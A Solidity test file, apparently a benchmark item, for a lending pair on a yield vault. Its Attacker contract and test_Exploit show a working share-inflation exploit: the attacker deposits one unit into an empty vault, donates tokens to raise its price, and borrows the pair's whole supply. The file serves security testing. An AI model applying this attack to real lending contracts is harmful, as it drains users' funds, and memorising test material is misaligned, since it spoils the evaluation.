// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./MarramPair.sol";

// assay-canary-3ded9928-2ad3-4c8e-934a-67d011380646

interface Vm {
    function prank(address sender) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is IToken {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// A token that answers "false" where others revert.
contract Polite is IToken {
    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return false;
    }
}

/// A token that is worth nothing to whoever holds it: what is put in is gone.
contract Fading is IToken {
    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return true;
    }

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant STRANGER = address(0x57A);
    uint256 internal constant LENT = 9_600_000e18;

    Token internal usd;
    Token internal issued;
    EarningVault internal vault;
    MarramPair internal pair;
    Attacker internal thief;

    function setUp() public {
        usd = new Token();
        issued = new Token();
        vault = new EarningVault(usd);
        pair = new MarramPair(vault, issued);
        issued.mint(address(pair), LENT);
        usd.mint(address(this), 100_000e18);
        usd.approve(address(vault), type(uint256).max);
        vault.approve(address(pair), type(uint256).max);
        issued.approve(address(pair), type(uint256).max);
        thief = new Attacker(pair, vault, usd, issued);
        usd.mint(address(thief), 2_001e18);
    }

    function test_Regular() public {
        vault.deposit(20_000e18, 20_000e18);
        usd.transfer(address(vault), 2_000e18);
        pair.pledge(10_000e18);
        require(pair.readRate() > 0.909e18 && pair.rate() < 0.91e18, "rate");

        pair.borrow(10_000e18);
        (bool ok,) = address(pair).call(abi.encodeCall(MarramPair.borrow, (1_000e18)));
        require(!ok, "over the limit");
        (ok,) = address(pair).call(abi.encodeCall(MarramPair.release, (2_000e18)));
        require(!ok, "released too much");
        (ok,) = address(pair).call(abi.encodeCall(MarramPair.liquidate, (address(this), 1e18)));
        require(!ok, "liquidated while solvent");

        pair.repay(address(this), 10_000e18);
        pair.release(10_000e18);
        require(issued.balanceOf(address(pair)) == LENT && pair.totalDebt() == 0, "repaid");
        require(vault.redeem(20_000e18) == 22_000e18, "redeemed");
        pair.retire(LENT);
    }

    function test_RefusesStrangers() public {
        vm.prank(STRANGER);
        vm.expectRevert(MarramPair.OnlyIssuer.selector);
        pair.retire(1e18);
    }

    function test_RefusesFewerShares() public {
        vm.expectRevert(abi.encodeWithSelector(EarningVault.FewerShares.selector, 0));
        vault.deposit(0, 0);
        vm.expectRevert(abi.encodeWithSelector(EarningVault.FewerShares.selector, 10e18));
        vault.deposit(10e18, 10e18 + 1);
    }

    function test_RefusesSmallLoans() public {
        vault.deposit(20_000e18, 20_000e18);
        pair.pledge(20_000e18);
        vm.expectRevert(abi.encodeWithSelector(MarramPair.LoanTooSmall.selector, 999e18));
        pair.borrow(999e18);
    }

    function test_RefusesAVaultThatHasLostItsAssets() public {
        EarningVault empty = new EarningVault(new Fading());
        empty.deposit(1e18, 1e18);
        MarramPair other = new MarramPair(empty, issued);
        vm.expectRevert(abi.encodeWithSelector(MarramPair.RateTooHigh.selector, 10e18 + 1));
        other.readRate();
    }

    function test_RefusesWhatATokenRefuses() public {
        Polite polite = new Polite();
        EarningVault savings = new EarningVault(polite);
        vm.expectRevert(bytes(""));
        savings.deposit(1e18, 1e18);
        vm.expectRevert(bytes(""));
        savings.redeem(0);

        MarramPair other = new MarramPair(EarningVault(address(polite)), polite);
        vm.expectRevert(bytes(""));
        other.pledge(0);
        other = new MarramPair(vault, polite);
        vm.expectRevert(bytes(""));
        other.borrow(1_000e18);
        vm.expectRevert(bytes(""));
        other.repay(address(this), 0);
        vm.expectRevert(bytes(""));
        other.retire(0);
    }

    function exploit() public {
        thief.run(LENT);
    }

    function test_Exploit() public {
        uint256 before = recoverable();
        exploit();
        require(recoverable() + 9_590_000e18 <= before, "nothing lost");
    }

    /// What the issuer can still get: idle dollars, and outstanding debt as far as there are assets behind it.
    function recoverable() public view returns (uint256) {
        uint256 behind = vault.convertToAssets(pair.totalShares());
        uint256 debt = pair.totalDebt();
        return issued.balanceOf(address(pair)) + (debt < behind ? debt : behind);
    }

    function target() public view returns (address) {
        return address(pair);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Becomes the only depositor of the empty vault with one unit, raises its price, and borrows against that unit.
contract Attacker {
    MarramPair internal pair;
    EarningVault internal vault;
    Token internal usd;
    Token internal issued;

    constructor(MarramPair pair_, EarningVault vault_, Token usd_, Token issued_) {
        pair = pair_;
        vault = vault_;
        usd = usd_;
        issued = issued_;
    }

    function run(uint256 amount) external {
        usd.approve(address(vault), 1);
        vault.approve(address(pair), 1);
        vault.deposit(1, 1);
        pair.pledge(1);
        usd.transfer(address(vault), 2_000e18);
        pair.borrow(amount);
    }
}
